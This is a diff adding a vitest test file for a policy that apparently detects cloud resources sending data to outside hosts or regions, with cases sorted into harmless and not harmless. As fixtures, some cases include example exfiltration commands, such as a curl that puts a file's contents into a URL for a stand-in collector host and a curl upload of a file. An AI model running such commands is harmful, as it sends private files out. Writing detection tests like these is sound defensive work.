@@ -1,0 +1,61 @@
+/** What runs, moves or holds is read; what the facts say to be harmless is not, unless something is sent. */
+import { expect, test } from "vitest";
+import { mentionsOf } from "../../../policies/border/references/mentions.ts";
+import type { Entry } from "../../../policies/border/terms/entry.ts";
+import type { Inputs } from "../../../policies/border/terms/value.ts";
+import { buildMadeUp, madeUpFacts, resource } from "../made-up-estate.ts";
+
+const runs: Entry = { type: "aws:a/function:Function", kinds: ["processes"], harmless: ["code"] };
+const tells: Entry = { type: "aws:a/template:Template", kinds: ["inert"], instructs: true };
+const shows: Entry = { type: "aws:a/dashboard:Dashboard", kinds: ["inert"] };
+
+function mentions(inputs: Inputs, type = runs.type) {
+  const estate = buildMadeUp([resource("one", { type, inputs })], madeUpFacts([runs, tells, shows]));
+  return [...estate.byUrn.values()]
+    .flatMap((node) => mentionsOf(node, estate))
+    .map(({ word, verb, what }) => [word, verb, what]);
+}
+
+const abroad = "https://sqs.us-east-1.amazonaws.com/1/q";
+const virginia = [["sqs.us-east-1.amazonaws.com", "process", "content"]];
+
+test("types that run, tell or belong to another provider are read, others are not", () => {
+  const inputs = { env: { X: abroad } };
+  expect(mentions(inputs)).toEqual(virginia);
+  expect(mentions(inputs, tells.type)).toEqual(virginia);
+  expect(mentions(inputs, "kubernetes:core/v1:ConfigMap")).toEqual(virginia);
+  expect(mentions(inputs, shows.type)).toEqual([]);
+  expect(mentions(inputs, "random:index:Password")).toEqual([]);
+});
+
+test("the words say what becomes of the data, and one place is one mention", () => {
+  expect(mentions({ env: { LOG_ARCHIVE: abroad } })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
+  expect(mentions({ env: { A: abroad, REGION: "us-east-1", EXPORT: abroad } })).toEqual([
+    ["sqs.us-east-1.amazonaws.com", "copy", "content"],
+  ]);
+});
+
+test.each<[string, Inputs]>([
+  ["a word under a harmless key", { env: { description: abroad } }],
+  ["a property that the entry says to be harmless", { code: abroad }],
+  ["an ARN of a harmless service", { env: { X: "arn:aws:acm:us-east-1:1:certificate/x" } }],
+  ["a host that only gives out", { script: "curl https://mirror.packages.example/a" }],
+  ["a host in the network", { env: { X: "http://db.local" } }],
+  ["what is only fetched", { script: "curl -O https://collector.example/a.tgz" }],
+  ["an image that is pulled", { env: { X: "https://1.dkr.ecr.us-east-1.amazonaws.com/x" } }],
+  ["where people's browsers are sent", { env: { CALLBACK_URL: "https://shop.example/x" } }],
+  ["a bucket anybody may read", { script: "aws s3 cp s3://public-agents/x ." }],
+])("harmless: %s", (_, inputs) => {
+  expect(mentions(inputs)).toEqual([]);
+});
+
+test.each<[string, Inputs]>([
+  ["a document under a harmless key", { env: { description: { more: { X: abroad } } } }],
+  ["what is sent to a host that only gives out", { script: "curl -T x https://packages.example/a" }],
+  ["what is filled into an address", { script: "curl https://collector.example/?q=$(cat x)" }],
+  ["an image that is pushed", { script: "docker push 1.dkr.ecr.us-east-1.amazonaws.com/x" }],
+  ["a vendor under a key of browsers", { env: { CALLBACK_URL: "https://in.vendor.example/x" } }],
+  ["a cloud's host under a key of browsers", { env: { CALLBACK_URL: abroad } }],
+])("not harmless: %s", (_, inputs) => {
+  expect(mentions(inputs)).not.toEqual([]);
+});
